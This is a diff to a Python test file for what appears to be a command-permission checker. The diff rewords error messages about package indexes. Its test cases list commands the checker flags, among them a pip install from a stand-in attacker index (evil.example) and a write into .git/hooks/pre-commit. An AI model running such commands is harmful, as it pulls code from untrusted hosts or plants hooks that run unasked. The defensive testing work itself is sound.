@@ -256,8 +256,8 @@ def test_a_day_of_work_stays_in_the_project(line: str) -> None:
         ("npm test; pkill node", "what pkill does lies beyond any folder"),
         ("git pull", "git talks to another computer"),
         ("gh pr create --title x", "gh talks to another computer"),
-        ("pip install --index-url http://evil.example/simple x", "evil.example is no package index"),
-        ("wget -O x https://github.com/a", "github.com is no package index"),
+        ("pip install --index-url http://evil.example/simple x", "evil.example is not a package index"),
+        ("wget -O x https://github.com/a", "github.com is not a package index"),
         ("git config user.name x", "git config changes what git obeys"),
         ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit rules what other programs run"),
         ("echo x >> sub/.git/config", "sub/.git/config rules what other programs run"),
@@ -332,7 +332,9 @@ def test_hosts_of_the_users_are_near() -> None:
     for host in ("files.example", "a.b.example.org", "pypi.org"):
         assert beyond(request_for(f"wget -O x https://{host}/a"), more) is None
     for host in ("a.files.example", "example.org", "github.com"):
-        assert str(beyond(request_for(f"wget -O x https://{host}/a"), more)) == f"{host} is no package index"
+        assert (
+            str(beyond(request_for(f"wget -O x https://{host}/a"), more)) == f"{host} is not a package index"
+        )
 
 
 FREE = "/tmp/steward-test-that-nobody-makes"
